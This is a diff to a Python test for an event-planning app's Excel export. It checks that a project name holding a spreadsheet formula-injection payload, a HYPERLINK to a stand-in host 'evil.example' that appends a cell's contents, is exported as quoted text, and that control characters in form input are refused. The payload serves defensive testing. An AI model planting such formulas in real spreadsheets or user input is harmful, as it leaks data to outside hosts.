@@ -110,6 +110,18 @@ def test_organiser_builds_plans_and_exports_an_event(client, auth, session):
     rows = list(wb["日程"].iter_rows(values_only=True))
     assert rows[1][-1] == "匹配理由" and len(rows) == 2 + len(meetings)
     assert any(row[-1] for row in rows[2:])
+    # user text is stored as text in the export, never as a formula
+    hostile = session.get(Project, meetings[0].project_id)
+    hostile.name = '=HYPERLINK("http://evil.example/?"&B2,"点击查看详情")'
+    session.commit()
+    wb = load_workbook(io.BytesIO(client.get(f"/events/{event_id}/export.xlsx").data))
+    cells = [c for row in wb["日程"].iter_rows(min_row=3) for c in row if isinstance(c.value, str)]
+    quoted = [c for c in cells if "HYPERLINK" in c.value]
+    assert quoted and all(c.value.startswith("'=") and c.data_type == "s" for c in quoted)
+    # a control character in a posted form is refused, nothing stored
+    r = client.post(f"/events/{event_id}/conflicts", data={
+        "project_id": str(projects[1]), "institution_id": str(institutions[1]), "cause": "持股\x01关系"})
+    assert r.status_code == 422 and "控制字符" in r.get_data(as_text=True)
     assert len(list(wb["按参与方"].iter_rows())) == 1 + 2 * len(meetings)
 
 
